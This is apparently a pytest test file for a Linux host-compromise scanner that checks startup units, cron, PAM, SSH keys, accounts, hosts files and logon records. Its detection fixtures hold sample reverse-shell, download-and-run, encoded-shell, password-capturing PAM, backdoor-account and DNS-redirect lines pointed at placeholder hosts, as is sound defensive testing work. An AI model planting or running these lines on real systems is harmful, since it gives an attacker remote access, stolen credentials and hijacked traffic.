"""What starts by itself on Linux, who may log on, where names lead: a healthy host and each sign of an unhealthy one."""

from __future__ import annotations

import os
import struct
from pathlib import Path

import pytest

from atttcli.field.host.cron import jobs
from atttcli.field.host.keys import read_key
from atttcli.field.host.logons import LAST, RECORD
from atttcli.field.host.startup import pam_module
from atttcli.field.host.units import settings
from tests.support.host_tree import DAY, NOW, PASSWD, hits, observed, problems, put, rules, seen

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIE5vdEFSZWFsS2V5Tm90QVJlYWxLZXlOb3RBUmVhbEs="
NOT_LIVE = ("systemd", "cron", "startup", "keys", "accounts", "logons", "hosts", "resolvers", "protection")


def record(kind: int, user: str, host: str, at: float, line: str = "pts/0", address: bytes = b"") -> bytes:
    return RECORD.pack(kind, 1, line.encode(), b"", user.encode(), host.encode(), 0, 0, 0, int(at), 0, address)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A healthy host, switched off and mounted."""
    put(tmp_path, "/etc/passwd", PASSWD)
    put(
        tmp_path,
        "/etc/shadow",
        f"root:*:19000:0\ndaemon:*:19000:0\nwww-data:*:1:0\nlan:$6$a$b:{int(NOW / DAY) - 200}:0\n",
        0o600,
    )
    put(tmp_path, "/etc/group", "root:x:0:\nsudo:x:27:lan\nlan:x:1000:\n")
    put(tmp_path, "/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n", 0o440)
    put(tmp_path, "/etc/hostname", "pc-17\n")
    put(
        tmp_path,
        "/etc/hosts",
        "127.0.0.1 localhost\n127.0.1.1 pc-17.bac-kan.example pc-17\n::1 ip6-localhost\n10.1.1.5 mail.backan.gov.vn\n",
    )
    put(tmp_path, "/etc/resolv.conf", "nameserver 10.1.1.1\nsearch bac-kan.example\n")
    put(
        tmp_path,
        "/etc/crontab",
        "SHELL=/bin/sh\nPATH=/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    )
    put(tmp_path, "/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n", 0o755)
    put(tmp_path, "/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D $OPTS\nUser=root\n")
    put(tmp_path, "/etc/profile", "if [ -d /etc/profile.d ]; then for i in /etc/profile.d/*.sh; do . $i; done; fi\n")
    put(tmp_path, "/home/lan/.bashrc", "alias ll='ls -l'\nexport PATH=$HOME/bin:$PATH\n")
    put(tmp_path, "/home/lan/.ssh/authorized_keys", f"ssh-ed25519 {KEY} lan@laptop\n", 0o600)
    put(
        tmp_path,
        "/etc/pam.d/sshd",
        "auth required pam_env.so # x\nsession [success=ok ignore=ignore] pam_selinux.so open\n@include common-auth\n",
    )
    put(tmp_path, "/etc/ssh/sshd_config", "PermitRootLogin no\n#Port 22\n")
    put(tmp_path, "/var/log/wtmp", record(7, "lan", "10.1.1.9", NOW - DAY) + record(8, "", "", NOW - DAY + 60))
    put(tmp_path, "/var/lib/dpkg/status", "", age_days=20)
    put(tmp_path, "/etc/os-release", 'ID=debian\nVERSION_ID="12"\n')
    return tmp_path


def test_a_healthy_host_meets_no_rule_and_nothing_is_missed(root: Path) -> None:
    found = seen(root)
    assert hits(found) == set()
    assert problems(found) == {}
    assert {one.check for one in found} == set(NOT_LIVE)


def test_no_observation_keeps_a_key_or_a_password_hash(root: Path) -> None:
    text = repr(seen(root))
    assert "$6$a$b" not in text
    assert KEY not in text
    assert "SHA256:" in text


@pytest.mark.parametrize(
    ("path", "content", "rule"),
    [
        ("/etc/systemd/system/u.service", "[Service]\nExecStart=/dev/shm/k --daemon\n", "host.command-temp"),
        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStartPre=-/tmp/x\n", "host.command-temp"),
        ("/home/lan/.config/systemd/user/a.service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://x.example | \\\nsh'\n",
         "host.command-download-run"),
        ("/etc/cron.d/a", "* * * * * root curl -s http://x.example/a|bash\n", "host.command-download-run"),
        ("/var/spool/cron/crontabs/www-data", "@reboot /var/tmp/.a/b >/dev/null 2>&1\n", "host.command-temp"),
        ("/etc/cron.hourly/gcc.sh", "#!/bin/sh\ncp /lib/libudev.so /lib/libudev.so.6\n/tmp/gcc\n", "host.command-temp"),
        ("/var/spool/cron/atjobs/a00001", "#!/bin/sh\necho aGk= | base64 -d | sh\n", "host.command-encoded"),
        ("/etc/rc.local", "#!/bin/sh\n/tmp/start &\n", "host.command-temp"),
        ("/etc/profile.d/x.sh", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", "host.command-reverse-shell"),
        ("/home/lan/.bashrc", "(wget -qO- http://x.example/a | sh) &\n", "host.command-download-run"),
        ("/etc/update-motd.d/00-x", "#!/bin/sh\nnc -e /bin/sh 203.0.113.9 1\n", "host.command-reverse-shell"),
        ("/home/lan/.config/autostart/u.desktop", "[Desktop Entry]\nExec=/usr/lib/.x/u\n", "host.autorun-hidden"),
        ("/etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/tmp/x"\n', "host.command-temp"),
        ("/etc/ld.so.preload", "/lib/libselinux.so.8\n", "host.preload-file"),
        ("/etc/pam.d/common-auth", "auth optional pam_exec.so expose_authtok /usr/lib/log\n", "host.pam-odd"),
        ("/etc/pam.d/su", "auth [success=1 default=ignore] /opt/x/pam_unix.so\n", "host.pam-odd"),
        ("/root/.ssh/authorized_keys", f'command="/tmp/x",no-pty ssh-ed25519 {KEY} a b\n', "host.key-command"),
        ("/var/www/.ssh/authorized_keys", f"ssh-rsa {KEY}\n", "host.key-odd-place"),
        ("/etc/sudoers.d/x", "www-data ALL=(ALL) NOPASSWD: ALL\n", "host.sudo-everything"),
        ("/etc/passwd", PASSWD + "support:x:0:0::/tmp:/bin/sh\n", "host.account-second-root"),
        ("/etc/passwd", PASSWD + "guest::1001:1001::/home/guest:/bin/sh\n", "host.account-no-password"),
        ("/etc/hosts", "203.0.113.9 dichvucong.gov.vn\n", "host.hosts-redirect-state"),
        ("/etc/hosts", "203.0.113.9 www.bidv.com.vn\n", "host.hosts-redirect"),
        ("/etc/cron.daily/x", "#!/bin/sh\n[ -d /etc/.git ] && exec /usr/lib/.x/y\n", "host.autorun-hidden"),
        ("/etc/hosts", "127.0.0.1 update.eset.com\n", "host.hosts-blocked"),
    ],
)  # fmt: skip
def test_each_sign_is_told(root: Path, path: str, content: str, rule: str) -> None:
    put(root, path, content)
    found = seen(root)
    assert rule in rules(found)
    assert {one.subject for one in found if one.rule == rule}, path


def test_what_was_changed_or_made_lately(root: Path) -> None:
    today = int(NOW / DAY)
    put(root, "/etc/shadow", f"root:*:19000:0\nlan:$6$a$b:{today - 2}:0\n", 0o600)
    put(root, "/etc/sudoers", "root ALL=(ALL:ALL) ALL\n", age_days=1)
    put(root, "/var/lib/dpkg/status", "", age_days=200)
    put(root, "/usr/bin/clamscan", "")
    put(root, "/var/lib/clamav/daily.cld", "", age_days=40)
    assert hits(seen(root)) == {
        ("host.account-new", "lan"), ("host.sudo-changed", "/etc/sudoers"), ("host.updates-old", "updates"),
        ("host.signatures-old", "antivirus ClamAV"),
    }  # fmt: skip


def test_files_that_anybody_may_change(root: Path) -> None:
    for path in ("/etc/cron.d/a", "/etc/systemd/system/a.service", "/etc/rc.local"):
        put(root, path, "[Service]\nExecStart=/usr/bin/a\n", 0o666)
    assert {subject for rule, subject in hits(seen(root)) if rule == "host.autorun-writable"} == {
        "/etc/cron.d/a", "/etc/systemd/system/a.service", "/etc/rc.local",
    }  # fmt: skip


def test_logons_and_what_a_cleaner_leaves(root: Path) -> None:
    told = observed(seen(root, "logons"), "logons")
    assert told["/var/log/wtmp: lan@10.1.1.9"]["time"] == int(NOW - DAY)
    blank = bytes(RECORD.size)
    put(
        root,
        "/var/log/wtmp",
        record(7, "lan", "", NOW - DAY) + blank + record(7, "lan", "", NOW - 9 * DAY) + record(8, "", "", NOW),
    )
    failed = record(6, "root", "203.0.113.9", NOW) * 1200
    put(root, "/var/log/btmp", failed)
    put(root, "/var/log/lastlog", bytes(LAST.size * 1000) + LAST.pack(int(NOW), b"pts/1", b"10.1.1.9"))
    found = seen(root, "logons")
    assert hits(found) == {
        ("host.logon-erased", "/var/log/wtmp"), ("host.logon-many-failed", "/var/log/btmp: 203.0.113.9"),
    }  # fmt: skip
    told = observed(found, "logons")
    assert told["/var/log/wtmp"] == {"blank": 1, "back_in_time": 1, "records": 4}
    assert told["/var/log/btmp: 203.0.113.9"] == {"count": 1200, "users": ["root"]}
    assert told["/var/log/lastlog: lan"]["from"] == "10.1.1.9"


def test_of_a_long_record_the_end_is_read(root: Path) -> None:
    file = put(root, "/var/log/wtmp", "")
    os.truncate(file, RECORD.size * 200_000)  # 77 MB
    with file.open("ab") as stream:
        stream.write(record(7, "lan", "10.1.1.9", NOW))
    assert "/var/log/wtmp: lan@10.1.1.9" in observed(seen(root, "logons"), "logons")


def test_an_address_in_a_logon_record_is_asked_about(root: Path) -> None:
    asked: list[tuple[str, str]] = []

    def look_up(kind: str, value: str) -> list:
        asked.append((kind, value))
        return []

    four = bytes((203, 0, 113, 9)) + bytes(12)
    six = bytes.fromhex("20010db8000000000000000000000001")
    put(root, "/var/log/wtmp", record(7, "a", "", NOW, address=four) + record(7, "b", "", NOW, address=six))
    seen(root, "logons", look_up=look_up)
    assert {("address", "203.0.113.9"), ("address", "2001:db8::1")} <= set(asked)


@pytest.mark.parametrize(
    ("line", "user", "expected"),
    [
        ("*/5 * * * * root /usr/bin/x -a", True, ("*/5 * * * *", "root", "/usr/bin/x -a")),
        ("@daily www-data php /srv/cron.php", True, ("@daily", "www-data", "php /srv/cron.php")),
        ("0 3 * * 1-5 /usr/bin/x", False, ("0 3 * * 1-5", "", "/usr/bin/x")),
        ("@reboot /usr/bin/x y", False, ("@reboot", "", "/usr/bin/x y")),
        ("# 0 3 * * * x", False, None),
        ("MAILTO=root", True, None),
        ("", True, None),
        ("0 3 * *", False, None),
    ],
)
def test_lines_of_cron(line: str, user: bool, expected: tuple[str, str, str] | None) -> None:
    assert list(jobs(line, user)) == ([expected] if expected else [])


def test_lines_of_anacron() -> None:
    assert list(jobs("7 10 cron.weekly run-parts /etc/cron.weekly", True, anacron=True)) == [
        ("7 10 cron.weekly", "", "run-parts /etc/cron.weekly")
    ]


def test_options_of_a_key_may_hold_blanks_and_quotes() -> None:
    key = read_key(f'command="/usr/bin/x \\"a b\\"",from="10.0.0.0/8" ssh-ed25519 {KEY} a comment')
    assert key is not None
    assert key.options == 'command="/usr/bin/x \\"a b\\"",from="10.0.0.0/8"'
    assert (key.kind, key.comment) == ("ssh-ed25519", "a comment")
    assert read_key("ssh-ed25519 not!base64") is None
    assert read_key("# ssh-rsa AAAA") is None


def test_settings_of_a_unit_go_on_behind_a_backslash() -> None:
    text = "[Service]\n# ExecStart=/no\nExecStart=/bin/a \\\n  --b\nExecStartPre=\nOnCalendar=daily\n"
    assert settings(text) == [("ExecStart", "/bin/a    --b"), ("ExecStartPre", ""), ("OnCalendar", "daily")]


def test_modules_of_pam() -> None:
    assert pam_module("auth [success=1 default=ignore] pam_unix.so nullok") == ("pam_unix.so", "nullok")
    assert pam_module("-session optional pam_systemd.so") == ("pam_systemd.so", "")
    assert pam_module("@include common-auth") == ("", "")
    assert pam_module("# auth x y") == ("", "")


def test_records_have_the_size_of_the_system() -> None:
    assert RECORD.size == 384
    assert LAST.size == struct.calcsize("<i32s256s") == 292


def test_this_machine_meets_nothing_grave() -> None:
    """Conservative by default: on a machine that works, no rule of ours is high."""
    found = seen(Path(os.sep), *NOT_LIVE)
    assert [one for one in found if one.rule and one.severity >= 3] == []
